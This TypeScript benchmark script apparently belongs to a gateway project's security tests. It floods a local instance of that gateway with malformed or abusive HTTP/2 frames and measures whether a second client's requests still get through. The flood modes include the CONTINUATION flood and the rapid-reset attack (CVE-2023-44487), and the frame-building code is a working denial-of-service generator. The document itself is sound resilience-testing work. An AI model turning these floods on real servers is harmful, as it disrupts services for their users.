// HTTP/2 frame floods of docs/security.md section 51, against a real `mtlsgate serve` (dist/, so
// `npm run build` first): a client writing its own frames (test/helpers/raw-h2.ts) floods one
// connection for `--seconds` while a second, well-behaved client (node:http2, its own
// connection) sends one request after another; prints what the attacker got back (GOAWAY, how
// long its connection lived, how many frames it got in) and the other client's latency.
//   --mode continuation   HEADERS without END_HEADERS, then CONTINUATION frames for ever (CVE-2024-27316 class)
//   --mode settings       SETTINGS frames, the attacker never reading the ACKs
//   --mode ping           PING frames, the attacker never reading the ACKs
//   --mode empty-data     one POST stream, then empty DATA frames (no END_STREAM)
//   --mode window-update  WINDOW_UPDATE frames of 1 on the connection
//   --mode priority       PRIORITY frames on idle streams
//   --mode reset          HEADERS + RST_STREAM in one write (CVE-2023-44487)
//   --mode none           no attacker: the other client's latency alone
//
//   node --import tsx bench/h2-frame-floods.ts [--mode ping] [--seconds 5] [--cli DIST/mtlsgate.mjs]
import { readFileSync, writeFileSync } from 'node:fs';
import { Worker } from 'node:worker_threads';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { demoServeArgs, listenPort } from '../test/helpers/demo-gateway.ts';
import { bundleOf, openApi, tempDir } from '../test/helpers/ops-fixtures.ts';
import { END_HEADERS, FRAME, frame, rawH2, requestBlock, type RawH2 } from '../test/helpers/raw-h2.ts';
import { CLI, demoPki, spawnServe } from '../test/helpers/serve-fixtures.ts';

const { values } = parseArgs({
  options: {
    cli: { type: 'string', default: CLI },
    mode: { type: 'string', default: 'ping' },
    seconds: { type: 'string', default: '5' },
  },
});
const mode = values.mode!;
const seconds = Number(values.seconds);

/** The frames of one batch of the flood (`i`: the batch's number). */
function batch(mode: string, i: number, authority: string): Buffer {
  const n = 1000;
  const frames: Buffer[] = [];
  const u32 = (v: number) => {
    const b = Buffer.alloc(4);
    b.writeUInt32BE(v);
    return b;
  };
  if (mode === 'continuation') {
    if (i === 0) frames.push(frame(FRAME.HEADERS, 0, 1, requestBlock('GET', '/', authority)));
    // Each CONTINUATION one literal field: a list that never ends.
    const field = Buffer.from([0, 1, 0x78, 1, 0x79]);
    for (let k = 0; k < n; k++) frames.push(frame(FRAME.CONTINUATION, 0, 1, field));
  } else if (mode === 'settings') for (let k = 0; k < n; k++) frames.push(frame(FRAME.SETTINGS, 0, 0));
  else if (mode === 'ping') for (let k = 0; k < n; k++) frames.push(frame(FRAME.PING, 0, 0, Buffer.alloc(8)));
  else if (mode === 'empty-data') {
    if (i === 0) frames.push(frame(FRAME.HEADERS, END_HEADERS, 1, requestBlock('POST', '/upload', authority)));
    for (let k = 0; k < n; k++) frames.push(frame(FRAME.DATA, 0, 1));
  } else if (mode === 'window-update') for (let k = 0; k < n; k++) frames.push(frame(FRAME.WINDOW_UPDATE, 0, 0, u32(1)));
  else if (mode === 'priority') for (let k = 0; k < n; k++) frames.push(frame(FRAME.PRIORITY, 0, 2 * (i * n + k) + 1001, Buffer.from([0, 0, 0, 0, 16])));
  else if (mode === 'reset')
    for (let k = 0; k < n; k++) {
      const id = 2 * (i * n + k) + 1;
      frames.push(frame(FRAME.HEADERS, END_HEADERS, id, requestBlock('POST', '/r', authority)), frame(FRAME.RST_STREAM, 0, id, u32(8)));
    }
  return Buffer.concat(frames);
}

async function attack(c: RawH2, authority: string, until: number): Promise<{ batches: number; livedMs: number }> {
  const start = Date.now();
  if (mode === 'settings' || mode === 'ping') c.socket.pause(); // never read the ACKs
  let i = 0;
  while (!c.closed && c.goaway === null && Date.now() < until) {
    const ok = c.socket.write(batch(mode, i++, authority));
    if (!ok) await Promise.race([new Promise((r) => c.socket.once('drain', r)), new Promise((r) => setTimeout(r, 200))]);
    else await new Promise((r) => setImmediate(r));
  }
  while (!c.closed && Date.now() < until) await new Promise((r) => setTimeout(r, 20));
  return { batches: i, livedMs: Date.now() - start };
}

let requestsAtUpstream = 0;
const upstream = createServer((_req, res) => {
  requestsAtUpstream++;
  res.end('ok');
});

/** The process's CPU time so far (user + system), in ms, from /proc. */
function cpuMs(pid: number): number {
  const fields = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ');
  return ((Number(fields[11]) + Number(fields[12])) * 1000) / 100;
}
await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
const t = tempDir('h2-frames');
const pki = await demoPki(t.dir);
const bundle = join(t.dir, 'bundle.json');
writeFileSync(bundle, bundleOf([openApi('open', '/', `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`)]));
const serve = spawnServe(demoServeArgs(bundle, pki), process.env, values.cli);
try {
  const port = listenPort(await serve.serving());
  const authority = `localhost:${port}`;
  // The other client runs on its own thread: the attacker's loop does not delay its requests.
  const victimCode = `
    const { connect } = require('node:http2');
    const { workerData, parentPort } = require('node:worker_threads');
    const other = connect('https://localhost:' + workerData.port, { ca: workerData.ca });
    other.on('error', () => {});
    const latencies = [];
    let failures = 0;
    (async () => {
      while (Date.now() < workerData.until) {
        const t0 = performance.now();
        const ok = await new Promise((resolve) => {
          const req = other.request({ ':path': '/other' });
          req.setTimeout(5000, () => req.close());
          req.resume();
          req.on('end', () => resolve(true));
          req.on('error', () => resolve(false));
          req.on('close', () => resolve(false));
        });
        const took = performance.now() - t0;
        if (!ok) failures++;
        else latencies.push(took);
        // Where in the run a slow one started (ms from the attack's start).
        if (took > 500) console.error('slow request: started at', Math.round(Date.now() - took - workerData.start), 'ms, took', Math.round(took), 'ms');
        await new Promise((r) => setTimeout(r, 10));
      }
      other.close();
      parentPort.postMessage({ latencies, failures });
    })();`;
  const until = Date.now() + seconds * 1000;
  const victim = new Promise<{ latencies: number[]; failures: number }>((resolve) =>
    new Worker(victimCode, { eval: true, workerData: { port, ca: pki.ca.certPem, until, start: Date.now() } }).once('message', resolve),
  );
  const cpuBefore = cpuMs(serve.child.pid!);
  const attacker = mode === 'none' ? null : await rawH2({ port, ca: pki.ca.certPem });
  const result = attacker === null ? null : await attack(attacker, authority, until);
  const { latencies, failures } = await victim;
  const gatewayCpuMs = cpuMs(serve.child.pid!) - cpuBefore;
  latencies.sort((a, b) => a - b);
  const q = (p: number) => +(latencies[Math.min(latencies.length - 1, Math.floor(p * latencies.length))] ?? NaN).toFixed(2);
  console.log(
    JSON.stringify({
      mode,
      cli: values.cli,
      gatewayCpuMs,
      requestsAtUpstream,
      attacker:
        attacker === null
          ? null
          : { batchesOf1000Frames: result!.batches, connectionLivedMs: result!.livedMs, goaway: attacker.goaway, closed: attacker.closed },
      other: { requests: latencies.length, failures, p50Ms: q(0.5), p99Ms: q(0.99), maxMs: q(1) },
    }),
  );
  attacker?.close();
} finally {
  serve.child.kill('SIGKILL');
  upstream.close();
  t.cleanup();
}
process.exit(0);
